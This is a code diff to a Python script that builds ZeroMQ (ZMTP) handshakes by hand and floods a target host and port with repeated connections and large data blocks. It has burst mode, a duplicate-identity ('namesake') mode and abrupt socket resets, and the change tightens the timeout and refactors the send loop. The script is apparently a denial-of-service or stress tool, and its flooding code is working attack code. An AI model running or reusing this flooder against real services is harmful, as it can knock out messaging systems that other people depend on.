@@ -26,6 +26,8 @@ GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + byt
 PING = b"\x04\x09\x04PING\x00\x00ab"
 MORE = 1
 BLOCK = 2**16
+PATIENCE_S = 0.5
+"""A door that is shut answers to nobody."""
 BURST = 2_000
 AT_ONCE = struct.pack("ii", 1, 0)
 BIG = 200_000
@@ -42,7 +44,7 @@ def metadata(name: str, value: bytes) -> bytes:
 
 
 def come(host: str, port: int, kind: str, name: bytes) -> socket.socket:
-    made = socket.create_connection((host, port), timeout=5)
+    made = socket.create_connection((host, port), timeout=PATIENCE_S)
     made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, AT_ONCE)
     made.sendall(GREETING)
     ready = b"\x05READY" + metadata("Socket-Type", kind.encode()) + metadata("Identity", name)
@@ -70,15 +72,22 @@ def block_of(way: str, kind: str) -> bytes:
 def flood(host: str, port: int, kind: str, way: str, until_s: float) -> None:
     block = block_of(way, kind)
     name = b"twin" if way == "namesake" else b""
-    bearer = come(host, port, kind, name) if name else None
+    bearer = None
     while time.monotonic() < until_s:
-        with suppress(OSError), come(host, port, kind, name) as made:
-            while time.monotonic() < until_s:
-                made.sendall(block)
-                if way == "burst":
-                    break
+        with suppress(OSError):
+            if name and bearer is None:
+                bearer = come(host, port, kind, name)
+            pour(come(host, port, kind, name), block, until_s if way != "burst" else 0.0)
     if bearer is not None:
         bearer.close()
+
+
+def pour(made: socket.socket, block: bytes, until_s: float) -> None:
+    """Send `block` at least once, then again and again until `until_s`."""
+    with made:
+        made.sendall(block)
+        while time.monotonic() < until_s:
+            made.sendall(block)
 
 
 def flood_locked(host: str, port: int, kind: str, way: str, until_s: float, identity: Identity) -> None:
